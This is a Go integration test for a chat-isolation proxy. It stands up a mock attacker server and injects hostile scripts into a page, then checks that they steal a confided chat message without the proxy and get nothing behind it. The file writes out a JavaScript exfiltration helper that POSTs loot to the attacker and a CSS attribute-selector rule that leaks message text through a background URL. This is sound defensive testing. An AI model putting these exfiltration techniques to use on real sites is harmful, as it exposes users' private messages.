package integration

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"chatproxy/demo/site"
	"chatproxy/integration/browsers"
)

// An attacker serves hostile scripts and keeps what they send. The CDN that one
// of them loads from is another origin of the same attacker.
type attacker struct {
	script, cdn string // base URLs
	mu          sync.Mutex
	changed     *sync.Cond
	loot        map[string][]string // by attack
}

func newAttacker(t *testing.T) *attacker {
	t.Helper()
	a := &attacker{loot: map[string][]string{}}
	a.changed = sync.NewCond(&a.mu)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /attacks/{name}", a.serve)
	mux.HandleFunc("POST /loot/{attack}", a.keep)
	mux.HandleFunc("GET /loot/{attack}", a.keep) // what a style sheet can send
	script, cdn := httptest.NewServer(mux), httptest.NewServer(mux)
	t.Cleanup(script.Close)
	t.Cleanup(cdn.Close)
	a.script, a.cdn = script.URL, cdn.URL
	return a
}

// serve sends a script of testdata/attacks with the means to send off its loot.
func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
	body, err := os.ReadFile(filepath.Join("..", "testdata", "attacks", filepath.Base(r.PathValue("name"))))
	if err != nil {
		http.Error(w, err.Error(), http.StatusNotFound)
		return
	}
	// The built-in fetch is kept, so that an attack which wraps it does not
	// report its own reports.
	means := fmt.Sprintf(`var CDN = %q, steal = globalThis.steal || ((send) => (attack, loot) =>
  send(%q + attack, { method: "POST", mode: "no-cors", body: String(loot) }).catch(() => {}))(fetch.bind(globalThis));
`, a.cdn, a.script+"/loot/")
	if path.Ext(r.URL.Path) == ".html" {
		w.Header().Set("Content-Type", "text/html")
		means = "<script>" + means + "</script>"
	} else {
		w.Header().Set("Content-Type", "text/javascript")
	}
	fmt.Fprint(w, means, string(body))
}

func (a *attacker) keep(_ http.ResponseWriter, r *http.Request) {
	body := make([]byte, 0, 4<<10)
	buf := make([]byte, 32<<10)
	for len(body) < 4<<20 {
		n, err := r.Body.Read(buf)
		body = append(body, buf[:n]...)
		if err != nil {
			break
		}
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	attack := r.PathValue("attack")
	a.loot[attack] = append(a.loot[attack], r.URL.RawQuery+string(body))
	a.changed.Broadcast()
}

// wait waits until the condition holds on what the attack has sent.
func (a *attacker) wait(ctx context.Context, attack string, holds func(loot []string) bool) bool {
	stop := context.AfterFunc(ctx, func() {
		a.mu.Lock()
		defer a.mu.Unlock()
		a.changed.Broadcast()
	})
	defer stop()
	a.mu.Lock()
	defer a.mu.Unlock()
	for !holds(a.loot[attack]) {
		if ctx.Err() != nil {
			return false
		}
		a.changed.Wait()
	}
	return true
}

func (a *attacker) count(attack string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.loot[attack])
}

func (a *attacker) all(attack string) string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Join(a.loot[attack], "\n")
}

// The scripts that stand in the page, in the order of the issue; rrweb, the sixth,
// is the vendor's own replay script.
var attacks = []struct {
	name string
	// proof is what the loot has when the attack succeeds, beside or in place of
	// the secret.
	proof []string
}{
	{"read-dom", []string{secret}},
	{"copy-storage", []string{"strophe-bosh-session", `\"sid\"`, `\"rid\"`, secret}},
	{"take-api", []string{secret}},
	{"wrap-network", []string{secret}},
	{"inject-script", []string{"from the CDN: ", secret}},
}

// secret is what Bob tells Alice in confidence.
const secret = "the heron flies at midnight"

// hostilePage has every attack in its head, before anything else can run, and the
// vendor's analytics and rrweb as every page of the newspaper.
func hostilePage(a *attacker) string {
	var b strings.Builder
	for _, attack := range attacks {
		fmt.Fprintf(&b, `<script src="%s/attacks/%s.js"></script>`+"\n", a.script, attack.name)
	}
	// A seventh needs no script: Converse writes messages into attributes, which a
	// style sheet in injected markup can read.
	fmt.Fprintf(&b, `<style>converse-chat-message-body[text*="heron flies"]{background:url("%s/loot/style?read")}</style>`+"\n", a.script)
	return b.String()
}

// confide has Bob tell Alice the secret, and Alice read it. Alice comes from
// another page of the site, so that there is a referrer.
func confide(t *testing.T, engine browsers.Engine, page string) *person {
	t.Helper()
	alice := newPerson(t, engine, "alice", page+"/about")
	alice.Eval(`location.href = "/news/night-ferry?from=about"`)
	alice.Wait(`location.pathname === "/news/night-ferry" && document.readyState === "complete"`, patience)
	bob := newPerson(t, engine, "bob", page+"/")
	alice.logIn()
	bob.logIn()
	bob.openChat("alice")
	bob.say("may I tell you something?")
	alice.openChat("bob")
	alice.sees("may I tell you something?")
	bob.say(secret)
	alice.sees(secret)
	return alice
}

// Without chatproxy every one of the six hostile scripts gets what it is after.
// This is the control of TestHostileScriptsGetNothing.
func TestHostileScriptsSucceedWithoutTheProxy(t *testing.T) {
	for _, engine := range browsers.All {
		t.Run(string(engine), func(t *testing.T) {
			server := newXMPP(t)
			vendor, vendorURL := newVendor(t)
			a := newAttacker(t)
			page := plainSite(t, server, site.NewSite(site.Options{
				Vendor: vendorURL, ExtraHead: hostilePage(a), ExtraBody: plainChat(overBOSH),
			}))
			confide(t, engine, page)

			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			for _, attack := range attacks {
				for _, proof := range attack.proof {
					if !a.wait(ctx, attack.name, func(loot []string) bool { return strings.Contains(strings.Join(loot, "\n"), proof) }) {
						t.Errorf("control: %s did not get %q: the attack proves nothing; it got:\n%.2000s", attack.name, proof, a.all(attack.name))
					}
				}
			}
			if !a.wait(ctx, "style", func(loot []string) bool { return len(loot) > 0 }) {
				t.Error("control: the style sheet did not read the secret: the attack proves nothing")
			}
			if _, err := vendor.Wait(ctx, func(h site.Hit) bool { return h.Path == "/collect/replay" && strings.Contains(h.Body, secret) }); err != nil {
				t.Errorf("control: rrweb did not record the secret: the attack proves nothing: %v", err)
			}
		})
	}
}

// Behind chatproxy the same scripts run, in compartments, and get nothing of the
// conversation; the vendor's own page view still arrives from there.
func TestHostileScriptsGetNothing(t *testing.T) {
	for _, engine := range browsers.All {
		t.Run(string(engine), func(t *testing.T) {
			server := newXMPP(t)
			vendor, vendorURL := newVendor(t)
			a := newAttacker(t)
			upstream := httptest.NewServer(site.NewSite(site.Options{
				Vendor: vendorURL, ExtraHead: hostilePage(a) + "<script>" + recorder + "</script>",
			}))
			t.Cleanup(upstream.Close)
			page, _ := protectedSite(t, server, upstream.URL, vendorURL, overBOSH)
			alice := confide(t, engine, page)
			screenshot(t, alice)

			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			// Each script runs and looks several more times while the secret is
			// on the screen: that it found nothing means something.
			for _, attack := range attacks {
				seen := a.count(attack.name)
				if !a.wait(ctx, attack.name, func(loot []string) bool { return len(loot) >= seen+3 }) {
					t.Errorf("%s does not run in its compartment, so this test shows nothing about it", attack.name)
				}
			}
			replayed, err := vendor.Wait(ctx, func(h site.Hit) bool { return h.Path == "/collect/replay" })
			if err != nil || replayed.Origin != "null" {
				t.Errorf("rrweb does not run in its compartment: origin %q, %v", replayed.Origin, err)
			}
			view, err := vendor.Wait(ctx, func(h site.Hit) bool {
				return h.Path == "/collect/pageview" && strings.Contains(h.Body, "/news/night-ferry?from=about")
			})
			if err != nil {
				t.Errorf("the vendor's own page view did not arrive: %v", err)
			}
			for _, want := range []string{`"url":"` + page + `/news/night-ferry?from=about"`, `"referrer":"` + page + `/about"`} {
				if !strings.Contains(view.Body, want) {
					t.Errorf("the page view %s lacks %s", view.Body, want)
				}
			}
			// WebKit 2.50 writes the document's origin on a beacon, opaque or not;
			// rrweb's fetch above shows where these scripts run.
			if view.Origin != "null" && engine != browsers.WebKit {
				t.Errorf("the page view comes from %q, not from an opaque origin", view.Origin)
			}

			if a.count("style") > 0 {
				t.Error("a style sheet in the page's markup read the secret")
			}
			for _, attack := range attacks {
				for _, leaked := range append([]string{secret, "may I tell you something", "alice@", "bob@"}, attack.proof...) {
					if strings.Contains(a.all(attack.name), leaked) {
						t.Errorf("%s got %q", attack.name, leaked)
					}
				}
			}
			hits := vendor.Hits()
			if len(hits) == 0 || hits[0].Seq != 1 {
				t.Error("the vendor has forgotten early hits, so this test does not see all that arrived")
			}
			for _, hit := range hits {
				if hit.Truncated {
					t.Errorf("%s was cut, so this test does not see all of it", hit.Path)
				}
				for _, leaked := range []string{secret, "may I tell you something", "alice@", "bob@"} {
					if strings.Contains(hit.Body+hit.Query+hit.Referer, leaked) {
						t.Errorf("the vendor got %q at %s", leaked, hit.Path)
					}
				}
			}
		})
	}
}
